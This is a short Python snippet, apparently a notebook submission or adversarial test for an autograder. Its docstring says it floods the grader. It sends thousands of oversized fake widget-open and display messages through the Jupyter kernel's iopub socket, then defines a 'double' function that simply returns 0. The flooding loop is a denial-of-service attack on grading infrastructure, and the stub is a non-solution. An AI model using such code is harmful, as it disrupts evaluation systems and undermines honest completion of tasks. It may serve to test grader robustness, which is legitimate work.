"""Floods the grader with messages, widgets among them."""
kernel = get_ipython().kernel
for number in range(3000):
    kernel.session.send(kernel.iopub_socket, "comm_open", {"comm_id": str(number), "data": {"state": {"x": "y" * 10**4}}}, parent=kernel.get_parent())
    kernel.session.send(kernel.iopub_socket, "display_data", {"data": {"text/plain": "z" * 10**4}, "metadata": {}}, parent=kernel.get_parent())
def double(x):
    return 0
